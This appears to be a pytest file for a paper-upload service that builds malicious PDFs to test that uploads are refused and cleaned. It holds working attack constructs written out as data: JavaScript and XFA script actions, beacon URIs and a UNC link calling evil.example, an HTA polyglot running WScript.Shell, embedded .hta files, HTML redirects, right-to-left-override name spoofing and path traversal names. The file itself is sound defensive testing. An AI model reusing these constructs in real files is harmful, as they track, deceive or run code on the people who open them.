"""Active content, polyglots and chosen names in uploaded papers (issue 13, findings 3-4).

Each PDF is built byte by byte (tests/pdfs.py) so that the construct sits exactly where an
attacker would put it; pypdf reads every one of them without complaint.
"""
from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from accounts.models import Profession
from research import files
from research.models import Extraction, PaperFile
from tests.pdfs import HEADER, JS, TEXT, document, nested, next_chain, stream
from tests.research.test_journey import form
from tests.research.test_uploads import assert_refused_by_check
from vfac.extensions import db

SCRIPT = "contains scripts or actions"
EXTERNAL = "attached files or links that open other files"
MIXED = "is not only a PDF"

UNC_LINK = (b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToR "
            b"/F (\\\\\\\\evil.example\\\\share\\\\case.pdf) /D [0 /Fit] >> >>")
EMBEDDED = {6: b"<< /Type /Filespec /F (evidence.hta) /UF (evidence.hta) /EF << /F 7 0 R >> >>",
            7: stream(b"<hta:application/>", b"/Type /EmbeddedFile")}
BEACON = b"<< /S /URI /URI (https://evil.example/opened) >>"
HTA = (b"%<html><head><hta:application windowstate='minimize'/><script>new ActiveXObject("
       b"'WScript.Shell').Run('calc')</script></head></html>\n")

CONSTRUCTS = {
    # the old walk marked an object seen before giving up at depth 40, and never came back
    "javascript open action first reached 40 arrays deep": (document(
        catalog=b"/Deep " + nested(b"6 0 R", 40) + b" /OpenAction 6 0 R", objects={6: JS}),
        SCRIPT),
    "javascript at the end of a 45-action /Next chain": (document(
        catalog=b"/OpenAction " + next_chain(JS, 45)), SCRIPT),
    "page /AA javascript in a 45-level page tree": (document(
        page=b"/AA << /O " + JS + b" >>", levels=45), SCRIPT),
    # additional actions run on their own (page opened, document closed): refused whatever
    # they do, here calling a web address to tell someone the file was opened, and when
    "/AA on a node of the page tree": (document(levels=2, objects={
        101: b"<< /Type /Pages /Parent 100 0 R /Kids [3 0 R] /Count 1 /AA << /O 6 0 R >> >>",
        6: BEACON}), SCRIPT),
    "catalogue /AA (on close)": (document(catalog=b"/AA << /WC " + BEACON + b" >>"), SCRIPT),
    "page /AA calling a web address": (document(page=b"/AA << /O " + BEACON + b" >>"), SCRIPT),
    "XFA form with a script": (document(
        catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", objects={6: stream(
            b"<template><subform><event activity='initialize'><script>app.alert(1)</script>"
            b"</event></subform></template>")}), SCRIPT),
    "GoToR link to a UNC path": (document(page=b"/Annots [6 0 R]", objects={6: UNC_LINK}),
                                 EXTERNAL),
    "GoToE into an embedded file": (document(catalog=b"/OpenAction << /S /GoToE /T << /R /C "
                                                     b"/N (evidence.hta) >> >>"), EXTERNAL),
    "embedded files name tree": (document(
        catalog=b"/Names << /EmbeddedFiles << /Names [(evidence.hta) 6 0 R] >> >>",
        objects=EMBEDDED), EXTERNAL),
    "file attachment annotation": (document(page=b"/Annots [8 0 R]", objects={
        **EMBEDDED, 8: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] "
                       b"/FS 6 0 R >>"}), EXTERNAL),
    "URI open action": (document(catalog=b"/OpenAction " + BEACON), SCRIPT),
    "URI open action after three GoTo": (document(catalog=b"/OpenAction " + next_chain(
        BEACON, 3)), SCRIPT),
    "HTA polyglot in a comment before the first object": (document(header=HEADER + HTA), MIXED),
    "HTML page after the end of the PDF": (document(
        tail=b"<!DOCTYPE html><script>location='https://evil.example/'</script>\n"), MIXED),
    "HTML in a string of the catalogue": (document(
        catalog=b"/Lang (<html><body onload=alert\\(1\\)>)"), MIXED),
    "bytes that are not a comment before the first object": (document(
        header=b"%PDF-1.7\nMZ\x90\x00\x03\x00\x00\x00\x04\x00\n"), MIXED),
}


@pytest.mark.parametrize("name", CONSTRUCTS)
def test_refused_and_nothing_kept(app, client, auth, make_user, name):
    data, message = CONSTRUCTS[name]
    auth.login(make_user(profession=Profession.ACADEMIC))
    before = assert_refused_by_check(app, client, data, message)
    assert not [p for p in (Path(app.instance_path) / "uploads" / "research").glob("*")
                if p not in before]  # no temporary file either


def test_leading_garbage_before_the_signature_is_refused(app, client, auth, make_user):
    auth.login(make_user(profession=Profession.ACADEMIC))
    for data in (b"<html>" + document(), b"\xef\xbb\xbf" + document(), b"MZ\x90\x00" + document()):
        response = client.post("/research/submit", content_type="multipart/form-data",
                               data=form(pdf=(io.BytesIO(data), "paper.pdf")))
        assert response.status_code == 400 and "not a PDF" in response.get_data(as_text=True)


def clean_upload() -> bytes:
    """Harmless extras the clean copy leaves behind, and a web link it keeps."""
    return document(catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseNone "
                            b"/Names << /Dests << /Names [(intro) [3 0 R /Fit]] >> >>",
                    page=b"/Annots [6 0 R]", objects={6: b"<< /Type /Annot /Subtype /Link "
                                                      b"/Rect [72 700 300 720] /A << /S /URI "
                                                      b"/URI (https://www.unodc.org/) >> >>"},
                    tail=b"% a comment after the end\n")


def test_clean_pdf_is_kept_as_a_clean_copy_and_its_text_extracted(app, client, auth, make_user):
    auth.login(make_user(profession=Profession.ACADEMIC))
    upload = clean_upload()
    response = client.post("/research/submit", content_type="multipart/form-data",
                           data=form(pdf=(io.BytesIO(upload), "paper.pdf")))
    assert response.status_code == 302, response.get_data(as_text=True)
    stored = db.session.scalar(select(PaperFile))
    assert stored.extraction is Extraction.DONE and TEXT in stored.text
    kept = files.path_of(stored.stored_name).read_bytes()
    assert kept != upload and kept.startswith(b"%PDF-")
    assert stored.sha256 == hashlib.sha256(kept).hexdigest() and stored.size == len(kept)
    reader = PdfReader(io.BytesIO(kept))
    assert set(reader.trailer["/Root"]) == {"/Type", "/Pages"}  # no actions, names, forms
    assert TEXT in reader.pages[0].extract_text()
    link = reader.pages[0]["/Annots"][0].get_object()
    assert link["/A"]["/URI"] == "https://www.unodc.org/"  # a paper's references still work
    download = client.get(f"/research/{stored.paper_id}/download")
    assert download.data == kept  # only the clean copy is ever served
    download.close()


def test_bidi_name_is_cleaned_and_download_named_after_the_title(client, auth, make_user):
    auth.login(make_user(profession=Profession.ACADEMIC))
    # shows as "Case-file_ath.pdf" in a right-to-left-aware file list
    response = client.post("/research/submit", content_type="multipart/form-data",
                           data=form(pdf=(io.BytesIO(clean_upload()),
                                          "Case-file_\u202efdp.hta\u200b\x07")))
    assert response.status_code == 302
    stored = db.session.scalar(select(PaperFile))
    assert stored.original_name == "Case-file_fdp.pdf"
    download = client.get(f"/research/{stored.paper_id}/download")
    assert download.headers["Content-Disposition"] == \
        "attachment; filename=ransomware-and-the-limits-of-jurisdiction-v1.pdf"
    download.close()


@pytest.mark.parametrize("upload,expected", [
    ("notes.PDF", "notes.pdf"),
    ("report.final.docx", "report.final.pdf"),
    ("\u202e\u2066\u200f", "paper.pdf"),
    ("..\\..\\evil.hta", "evil.pdf"),
    (".pdf", "paper.pdf"),
    ("تقرير\u200f الشرطة.pdf", "تقرير الشرطة.pdf"),
])
def test_stored_names_end_in_pdf_without_format_characters(app, upload, expected):
    with app.test_request_context():
        assert files.clean_name(upload, ".pdf", "paper") == expected


def test_download_name_in_any_script(app):
    with app.test_request_context():
        assert files.download_name("Preuve électronique : la saisie", 3) == \
            "preuve-électronique-la-saisie-v3.pdf"
        assert files.download_name("\u202e\u200b", 1) == "paper-v1.pdf"
        assert files.download_name("电子证据", 2) == "电子证据-v2.pdf"
